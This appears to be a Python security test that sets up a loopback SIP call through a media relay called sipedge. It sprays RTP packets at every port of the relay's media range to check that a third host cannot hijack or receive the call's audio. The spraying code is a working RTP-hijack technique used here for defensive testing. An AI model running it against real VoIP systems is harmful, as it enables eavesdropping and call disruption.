"""Attack 5: RTP hijack by a host that never sent SIP.

A sprayer on 127.0.0.7 sends an RTP packet to every port of the media range every 50 ms, from
before the call is set up until after it ends. The call: a caller on 127.0.0.3 INVITEs the
route's callee on 127.0.0.8 through sipedge (media = "always"), 200, ACK; 0.5 s later both
parties send RTP every 20 ms for 3 s, each payload marked with its sender. Defended: the sprayer
receives 0 packets; the callee receives only the caller's packets and the caller only the
callee's, each at least half of what was sent.
"""

import multiprocessing
import select
import socket
import struct
import time

import sipattack as sa

RTP_SECONDS = 3.0
SPRAY_EVERY = 0.05


def rtp(seq, ssrc, marker):
    return struct.pack("!BBHII", 0x80, 0, seq & 0xFFFF, seq * 160, ssrc) + marker + b"\0" * 40


def sprayer(lo, hi, stop_at, out):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.7", 0))
    s.setblocking(False)
    sent = got = 0
    sources = {}
    seq = 0
    next_round = time.monotonic()
    while time.monotonic() < stop_at:
        if time.monotonic() >= next_round:
            seq += 1
            pkt = rtp(seq, 0x5BADF00D, b"SPRAY")
            for port in range(lo, hi + 1):
                try:
                    s.sendto(pkt, ("127.0.0.1", port))
                    sent += 1
                except OSError:
                    pass
            next_round += SPRAY_EVERY
        r, _, _ = select.select([s], [], [], max(0.0, min(0.01, next_round - time.monotonic())))
        while r:
            try:
                data, src = s.recvfrom(2048)
            except (BlockingIOError, ConnectionRefusedError):
                break
            got += 1
            key = f"{src[0]}:{src[1]}"
            sources[key] = sources.get(key, 0) + 1
    out.send((sent, got, sources))
    out.close()


def main():
    ap = sa.common_args(__doc__)
    ap.add_argument("--uas-port", type=int, required=True)
    ap.add_argument("--media", required=True, help="the media port range MIN-MAX")
    a = ap.parse_args()
    c = sa.Checks("hijack")
    server = sa.parse_addr(a.server)
    us = f"{server[0]}:{server[1]}"
    lo, hi = map(int, a.media.split("-"))

    callee_rtp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    callee_rtp.bind(("127.0.0.8", 0))
    caller_rtp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    caller_rtp.bind(("127.0.0.3", 0))
    uas = sa.Uas("127.0.0.8", server, a.uas_port,
                 lambda m: [(200, "OK", sa.sdp("127.0.0.8", [callee_rtp.getsockname()[1]]))])

    rx, tx = multiprocessing.Pipe(duplex=False)
    spray_until = time.monotonic() + 0.3 + 4 + 0.5 + RTP_SECONDS + 1.0
    sp = multiprocessing.Process(target=sprayer, args=(lo, hi, spray_until, tx))
    sp.start()
    time.sleep(0.3)

    ua = sa.UA("127.0.0.3", server)
    cid = sa.rand_hex(20) + "@127.0.0.3"
    invite = sa.request("INVITE", f"sip:2000@{us}", via=ua.addr, from_uri="sip:alice@127.0.0.1",
                        to_uri=f"sip:2000@{us}", call_id=cid,
                        contact=f"sip:alice@127.0.0.3:{ua.port}",
                        body=sa.sdp("127.0.0.3", [caller_rtp.getsockname()[1]]))
    resp, secs, _ = ua.transact(invite, 4.0)
    ok = resp is not None and resp.status == 200
    fwd = uas.invites.get(cid)
    to_caller = resp.sdp_media() if ok else (None, [])
    to_callee = fwd.sdp_media() if fwd is not None else (None, [])
    relayed = (ok and to_caller[1] and lo <= to_caller[1][0] <= hi and to_callee[1]
               and lo <= to_callee[1][0] <= hi)
    c.check("setup: call relayed", bool(relayed),
            f"{resp.status if resp else 'no final'} in {secs * 1000:.0f} ms; caller sends to "
            f"{to_caller[0]}:{to_caller[1][:1]}, callee to {to_callee[0]}:{to_callee[1][:1]}")
    if not relayed:
        sp.join(15)
        for name in ("sprayer receives nothing", "callee receives only the caller",
                     "caller receives only the callee"):
            c.check(name, False, "not run: the call was not relayed")
        c.done()
    ua.send(sa.in_dialog(ua, invite, resp, "ACK", 1))
    time.sleep(0.5)  # the sprayer has hit every port several times by now

    dest_caller = (to_caller[0], to_caller[1][0])   # where the caller sends
    dest_callee = (to_callee[0], to_callee[1][0])   # where the callee sends
    counts = {"caller": {}, "callee": {}}
    sent = {"caller": 0, "callee": 0}
    start = time.monotonic()
    next_tx = start
    seq = 0
    while time.monotonic() - start < RTP_SECONDS + 0.3:
        now = time.monotonic()
        if now >= next_tx and now - start < RTP_SECONDS:
            seq += 1
            caller_rtp.sendto(rtp(seq, 0xCA11E4, b"CALLER"), dest_caller)
            callee_rtp.sendto(rtp(seq, 0xCA11EE, b"CALLEE"), dest_callee)
            sent["caller"] += 1
            sent["callee"] += 1
            next_tx += 0.02
        r, _, _ = select.select([caller_rtp, callee_rtp], [], [], 0.005)
        for s in r:
            data, _src = s.recvfrom(2048)
            who = "caller" if s is caller_rtp else "callee"
            marker = data[12:18].decode(errors="replace").rstrip("\0") or "?"
            counts[who][marker] = counts[who].get(marker, 0) + 1
    status = sa.end_call(ua, invite, resp)
    spray_sent, spray_got, sources = rx.recv() if rx.poll(spray_until - time.monotonic() + 10) \
        else (0, -1, {})
    sp.join(5)
    uas.close()

    c.check("sprayer 127.0.0.7 receives nothing", spray_got == 0,
            f"sprayed {spray_sent} packets over {hi - lo + 1} ports, received {spray_got} "
            f"(from {', '.join(list(sources)[:4]) or 'nobody'})")
    for who, other in (("callee", "caller"), ("caller", "callee")):
        got = counts[who]
        own = got.get(other.upper(), 0)
        foreign = sum(v for k, v in got.items() if k != other.upper())
        c.check(f"{who} receives only the {other}'s packets",
                foreign == 0 and own >= sent[other] // 2,
                f"{own} of the {other}'s {sent[other]} packets, {foreign} others {got}")
    c.note(f"BYE answered {status}")
    alive = sa.alive(a.pid)
    c.check("process alive", alive, f"pid {a.pid} {'alive' if alive else 'GONE'}")
    c.done()


if __name__ == "__main__":
    main()
